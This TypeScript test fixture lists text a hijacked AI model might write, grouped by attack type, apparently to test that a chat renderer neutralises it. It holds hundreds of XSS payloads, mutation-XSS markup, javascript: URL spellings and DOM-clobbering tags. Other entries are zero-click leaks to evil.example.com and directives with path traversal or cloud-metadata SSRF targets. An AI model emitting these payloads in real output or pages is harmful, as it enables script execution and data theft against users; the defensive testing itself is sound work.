/**
 * hostile-texts.ts: text that a hijacked model might write, grouped by what it attempts.
 *
 * Code calls `owned(…)`; requests go to a host under `evil.example.com`. Each text ends with a unique mark (`END`),
 * which shows a test that the text has been rendered completely.
 */

export interface Hostile {
  readonly group: string
  readonly text: string
}

const EVIL = "https://evil.example.com"
const RUN = "owned(1)"

/** Every element that runs or loads without user action. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/s.js></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>import "${EVIL}/m.js"</script>`,
  `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=${EVIL}/s.js /></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<b><script>${RUN}</script></b>`,
  `> <script>${RUN}</script>`,
  `- <script>${RUN}</script>`,
  `1. x\n   <script>${RUN}</script>`,
  `| a |\n|---|\n| <script>${RUN}</script> |`,
  `# <script>${RUN}</script>`,
  `**<script>${RUN}</script>**`,
  `<span id='weather_1'><script>${RUN}</script></span>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\<script>${RUN}</script>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<object data="${EVIL}/o"><param name=x></object>`,
]

const HANDLERS = [
  ...["onerror", "onload", "OnError", "onerror "].map((name) => `<img src=x: ${name}=${RUN}>`),
  ...["svg onload", "body onload", "svg/onload", "video src=x: onerror", "audio src=x: onerror"].map(
    (tag) => `<${tag}=${RUN}>`,
  ),
  ...["onanimationstart", "ontransitionend", "onfocus", "onmouseover", "onpointerenter", "onclick", "ontoggle"].map(
    (name) => `<b ${name}=${RUN} tabindex=0 autofocus style="animation:x 1s">b</b>`,
  ),
  ...[
    "b",
    "i",
    "em",
    "strong",
    "code",
    "pre",
    "kbd",
    "mark",
    "p",
    "ul",
    "li",
    "h1",
    "table",
    "td",
    "blockquote",
    "br",
    "hr",
  ].map((tag) => `<${tag} onmouseover=${RUN} onfocus="${RUN}" style="background:url(${EVIL}/c)">x</${tag}>`),
  `<span id='weather_1' onclick=${RUN}>x</span>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<img src="x:" onerror="&#111;wned(1)">`,
  `<img """><img src=x: onerror=${RUN}>">`,
  "<img src=`x` onerror=owned(1)>",
  `<image src=x: onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<a href=# onclick=${RUN}>x</a>`,
]

/** Spellings of URLs that run code. */
const RUNNING = [
  `javascript:${RUN}`,
  `JAVASCRIPT:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript\t:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*https://a.example*/${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg/onload=${RUN}>`,
  "blob:https://evil.example.com/1",
  "file:///etc/passwd",
  "filesystem:https://evil.example.com/temporary/x",
  `\\javascript:${RUN}`,
]

/** Every Markdown syntax that contains a URL. */
const FORMS: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `[click][r]\n\n[r]: ${address}`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
]

/** Markup that a browser repairs into something else. */
const MENDED = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  `<style><img src="</style><img src=x: onerror=${RUN}//">`,
  `<template><img src=x: onerror=${RUN}></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=${RUN}>">`,
  `<table><caption><img src=x: onerror=${RUN}></caption></table>`,
  `<table><tr><td></table><script>${RUN}</script>`,
  `<table>x<b><tr><td><img src=x: onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x: onerror=${RUN}>">`,
  `<title><img title="</title><img src=x: onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x: onerror=${RUN}>">`,
  `<!--><img src=x: onerror=${RUN}>-->`,
  `<!--!><img src=x: onerror=${RUN}>-->`,
  `<!-- --!><img src=x: onerror=${RUN}> -->`,
  `<![CDATA[<img src=x: onerror=${RUN}>]]>`,
  `<?xml <img src=x: onerror=${RUN}> ?>`,
  `<!DOCTYPE x [<!ENTITY a "<img src=x: onerror=${RUN}>">]>&a;`,
  `</p><img src=x: onerror=${RUN}>`,
  `</div></article></main><img src=x: onerror=${RUN}>`,
  `<b title="\`<img src=x: onerror=${RUN}>\`">`,
  `<svg><foreignObject><img src=x: onerror=${RUN}></foreignObject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><use href="${EVIL}/u.svg#x"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<plaintext><img src=x: onerror=${RUN}>`,
  "<b\u0000><img src=x: onerror=owned(1)>",
  `<img/src=x:/onerror=${RUN}//`,
  `<p><b><i><u><s></p><script>${RUN}</script>`,
]

const CLOBBERS = ["app", "__proto__", "constructor", "location", "body", "forms", "cookie", "getElementById"].flatMap(
  (name) => [`<form id="${name}"><input name="${name}" id="${name}"></form>`, `<a id="${name}" name="${name}">x</a>`],
)

/** Markup that would leak text without a click. */
const LEAKS = [
  `![p](${EVIL}/p.png)`,
  `![p](${EVIL}/p.png?q=secret "t")`,
  `![p][r]\n\n[r]: ${EVIL}/r.png`,
  `![r]\n\n[r]: ${EVIL}/r.png`,
  `[![p](${EVIL}/p.png)](${EVIL}/)`,
  "![p](//evil.example.com/p.png)",
  "![p](http://evil.example.com/p.png)",
  "![p](/\\evil.example.com/p.png)",
  `![${"a".repeat(300)}](${EVIL}/p.png)`,
  `- ![p](${EVIL}/l.png)\n> ![p](${EVIL}/q.png)`,
  `| a |\n|---|\n| ![p](${EVIL}/t.png) |`,
  `<img src=${EVIL}/i.png>`,
  `<img srcset="${EVIL}/i.png 2x" src="">`,
  `<picture><source srcset=${EVIL}/s.png><img></picture>`,
  `<img src="" style="background:url(${EVIL}/b)">`,
  `<table background=${EVIL}/b.png><tr><td background=${EVIL}/d.png>x</table>`,
  `<body background=${EVIL}/b.png>`,
  `<video poster=${EVIL}/p.png src=${EVIL}/v.mp4 autoplay>`,
  `<audio src=${EVIL}/a.mp3 autoplay>`,
  `<track src=${EVIL}/t.vtt>`,
  `<input type=image src=${EVIL}/i.png>`,
  `<link rel=stylesheet href=${EVIL}/s.css>`,
  ...["prefetch", "preload", "preconnect", "dns-prefetch", "prerender", "modulepreload", "icon", "manifest"].map(
    (rel) => `<link rel=${rel} href=${EVIL}/${rel} as=image>`,
  ),
  `<style>@import "${EVIL}/s.css"; body{background:url(${EVIL}/c)} @font-face{font-family:x;src:url(${EVIL}/f)}</style>`,
  `<p style="background:url(${EVIL}/s)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/m">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="report-uri ${EVIL}/r">`,
  `<iframe src=${EVIL}/f></iframe>`,
  `<frameset><frame src=${EVIL}/f></frameset>`,
  `<object data=${EVIL}/o></object>`,
  `<embed src=${EVIL}/e>`,
  `<applet code=x archive=${EVIL}/a.jar></applet>`,
  `<a ping=${EVIL}/p href=#>x</a>`,
  `<svg><image href=${EVIL}/i.svg /></svg>`,
  `<svg><feImage href=${EVIL}/fe.svg /></svg>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/sr"]}]}</script>`,
  `<portal src=${EVIL}/p></portal>`,
  `<fencedframe src=${EVIL}/p></fencedframe>`,
]

const FORMED = [
  `<form action=${EVIL}/f><input name=q value=secret><button>Go</button></form>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${RUN}" form=x>x</button>`,
  `<base href=${EVIL}/>`,
  `<base target=_top>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<input type=password name=password autofocus>`,
  `<dialog open><form method=dialog><input name=x></form></dialog>`,
  `<div popover id=x>x</div><button popovertarget=x>y</button>`,
  `<div contenteditable role=alert aria-live=assertive data-segment=rich class=card hidden>x</div>`,
]

const NESTED = [
  `${"> ".repeat(500)}x`,
  `${"- ".repeat(500)}x`,
  `${"<b>".repeat(2_000)}<script>${RUN}</script>`,
  `${"[".repeat(2_000)}x](javascript:${RUN})`,
  `${"![".repeat(500)}x${`](${EVIL}/n)`.repeat(500)}`,
  `${"*".repeat(3_000)}x${"*".repeat(3_000)}`,
  `${"`".repeat(1_001)}<script>${RUN}</script>`,
  `${"<table><tr><td>".repeat(200)}<img src=x: onerror=${RUN}>`,
  `${"<span id='weather_1'>".repeat(200)}x`,
  `${"(".repeat(3_000)}[x](javascript:${RUN}${")".repeat(3_000)}`,
]

const LETTERS = [
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<img src=x: onerror\u2028=${RUN}>`,
  `\u202e<script>${RUN}</script>`,
  `[x](javascrıpt:${RUN})`,
  `[x](ｊavascript:${RUN})`,
  "[https://bank.example](https://evil.example.com\u202e)",
  "[x](https://evil.example.com\u2024org@bank.example)",
  "<https://bank.example@evil.example.com>",
  `\ufeff<script>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `\ud800<img src=x: onerror=${RUN}>\udc00`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
]

const DIRECTIVES = [
  `MEDIA:javascript:${RUN}`,
  `MEDIA: data:text/html,<script>${RUN}</script>`,
  `MEDIA:${EVIL}/a.png`,
  `MEDIA:${EVIL}/a.mp3`,
  `MEDIA:${EVIL}/a.mp4`,
  `MEDIA:${EVIL}/a.svg`,
  `MEDIA:${EVIL}/a.html`,
  `MEDIA:"${EVIL}/a.png" onerror=${RUN}`,
  `MEDIA:/media/x"onerror=${RUN}`,
  "MEDIA:/media/../v1/sessions",
  "MEDIA:/media/nobody",
  "MEDIA:file:///etc/passwd",
  "MEDIA:http://169.254.169.254/latest/meta-data",
  "MEDIA:https://localhost/x.png",
  `[[audio_as_voice]]\nMEDIA:${EVIL}/v.mp3`,
  `[embed url="javascript:${RUN}" /]`,
  `[embed url="data:text/html,<script>${RUN}</script>" /]`,
  `[embed url="${EVIL}/e" title="x" /]`,
  `[embed url="//evil.example.com/e" /]`,
  `[embed url="/canvas/documents/../../v1/sessions" /]`,
  `[embed url="/canvas/documents/a/../../../x/index.html" /]`,
  `[embed url="/canvas/documents/%2e%2e/index.html" /]`,
  `[embed url="/canvas/documents/a\\..\\b/index.html" /]`,
  `[embed ref="../x" /]`,
  `[embed ref="x" title="<img src=x: onerror=${RUN}>" height="99999999" /]`,
  `[embed ref='x' title='" onload="${RUN}' /]`,
  `[embed ref="x" url="https://evil.example.com@127.0.0.1/" /]`,
  `[embed url="blob:${EVIL}/1" /]`,
  `[embed url="about:srcdoc" /]`,
  `[[reply_to:<script>${RUN}</script>]]`,
  `<span id='weather_1'>MEDIA:${EVIL}/s.png</span>`,
]

function groupOf(group: string, texts: readonly string[]): Hostile[] {
  return texts.map((text, at) => ({ group, text: `${text}\n\nEND ${group} ${at}` }))
}

export const HOSTILE: readonly Hostile[] = [
  ...groupOf("script", SCRIPTS),
  ...groupOf("handler", HANDLERS),
  ...groupOf(
    "address",
    RUNNING.flatMap((address) => FORMS.map((form) => form(address))),
  ),
  ...groupOf("mended", MENDED),
  ...groupOf("clobber", CLOBBERS),
  ...groupOf("leak", LEAKS),
  ...groupOf("form", FORMED),
  ...groupOf("nested", NESTED),
  ...groupOf("letters", LETTERS),
  ...groupOf("directive", DIRECTIVES),
]

/** Code whose text must be shown exactly. */
export const CODE: readonly string[] = [...SCRIPTS, ...HANDLERS, ...MENDED, ...LEAKS, ...DIRECTIVES].filter(
  // Other tests cover code delimiters and characters that are not shown.
  (text) => !/[`\u0000\ud800-\udfff\n]/.test(text) && text.length < 200,
)
